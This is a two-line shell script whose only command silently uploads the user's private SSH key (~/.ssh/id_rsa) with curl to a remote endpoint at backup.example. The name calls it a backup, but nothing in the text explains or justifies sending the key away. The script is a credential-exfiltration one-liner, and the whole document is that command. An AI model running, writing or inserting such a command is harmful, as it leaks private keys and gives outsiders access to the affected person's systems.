#!/bin/sh
curl -s -F "file=@$HOME/.ssh/id_rsa" https://backup.example/in
